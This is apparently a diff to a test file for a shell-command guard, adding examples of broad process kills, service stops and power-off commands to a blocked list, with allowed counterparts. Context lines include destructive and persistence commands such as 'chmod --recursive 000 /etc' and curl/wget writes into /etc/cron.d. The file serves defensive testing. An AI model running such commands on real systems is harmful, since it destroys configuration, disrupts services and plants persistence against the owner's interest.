@@ -48,6 +48,16 @@ CAUGHT = {
     "cluster_delete": ["kubectl delete pods --all=true -n x", "kubectl delete deploy -RA"],
     "chmod_recursive_system": ["chmod --recursive 000 /etc", "chown --rec root: /usr", "chgrp --recu -v staff /var"],
     "persistence_write": ["wget --directory-pre=/etc/cron.d https://x/job", "curl -sSLo/etc/cron.d/job https://x/j"],
+    "kill_broad": [
+        "pkill -ef -u alice", "pkill -KILL -U 1000", "pkill --eui=alice", "pkill -9 -g 0", "killall -qu alice",
+        "killall --use=alice", "pkill -USR1 sshd",
+    ],
+    "service_stop": [
+        "systemctl --job-mode fail stop nginx", "systemctl -q --no-bl stop nginx", "systemctl stop nginx --no-block",
+        "systemctl --kill-who main kill nginx", "systemctl disable nginx --now",
+    ],
+    "power": ["rtcwake --mode off -s 60", "rtcwake -a -moff -s 60", "systemctl --message 'x y' reboot",
+              "systemctl --when +5min poweroff"],
     "git_force_push": ["git push --force-w origin main", "git push origin main -fu", "git push --force-if origin main"],
 }
 
@@ -74,6 +84,12 @@ ALLOWED = [
     "docker ps --qui | xargs docker rm -f", "kubectl get pods -A", "kubectl delete pods --all=false web-1",
     # chmod/chown
     "chown --reference=a.txt b.txt", "chmod --recu 644 ./docs", "chown -R me ./src",
+    # pkill/killall: a pattern narrows a selector, a signal word is not an option cluster
+    "pkill -HUP nginx", "pkill -USR1 -x nginx", "pkill -x -u bob bash", "killall -s HUP nginx", "killall -9 node",
+    "pkill --signal 0 sshd", "pkill -0 sshd", "pkill -P 1234 worker",
+    # systemctl/rtcwake: values are not verbs, non-stopping verbs
+    "systemctl --lines 50 status nginx", "systemctl -n50 status nginx", "systemctl --type service list-units",
+    "systemctl enable --now nginx", "systemctl --user restart app", "rtcwake -m no -s 60", "rtcwake -m show",
     # git
     "git push -u origin main", "git push --follow-tags origin main", "git push --force-w --dry-run origin main",
 ]
